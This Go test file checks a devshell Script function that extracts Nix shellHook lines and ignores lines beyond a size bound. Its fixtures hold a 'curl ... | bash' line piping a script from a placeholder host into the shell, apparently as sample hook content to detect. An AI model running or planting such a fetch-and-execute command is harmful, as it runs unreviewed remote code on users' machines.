package devshell

import (
	"strings"
	"testing"
)

func TestScript(t *testing.T) {
	src := "{\n  shellHook = ''\n    ${pkgs.curl}/bin/curl -fsSL https://x.example/s | bash\n    echo ''${HOME} '''quoted'''\n  '';\n  other = ''\n    not a hook\n  '';\n}\n"
	s, n := Script(src)
	lines := strings.Split(s, "\n")
	if n != 4 || len(lines) != len(strings.Split(src, "\n")) {
		t.Fatalf("%d hook lines, %d lines: %q", n, len(lines), s)
	}
	if !strings.Contains(lines[2], "/nix/store/curl/bin/curl -fsSL") || !strings.Contains(lines[3], "echo ${HOME}") || strings.Contains(s, "not a hook") {
		t.Errorf("rewritten: %q", s)
	}
}

// TestScriptBound: lines past MaxLines are not read.
func TestScriptBound(t *testing.T) {
	src := strings.Repeat("# pad\n", MaxLines) + "shellHook = ''\n  curl https://x.example/s | bash\n'';\n"
	if _, n := Script(src); n != 0 {
		t.Errorf("read %d hook lines past the bound", n)
	}
	if _, n := Script("shellHook = ''\n  curl https://x.example/s | bash\n'';\n"); n != 3 {
		t.Errorf("within the bound: %d hook lines", n)
	}
}
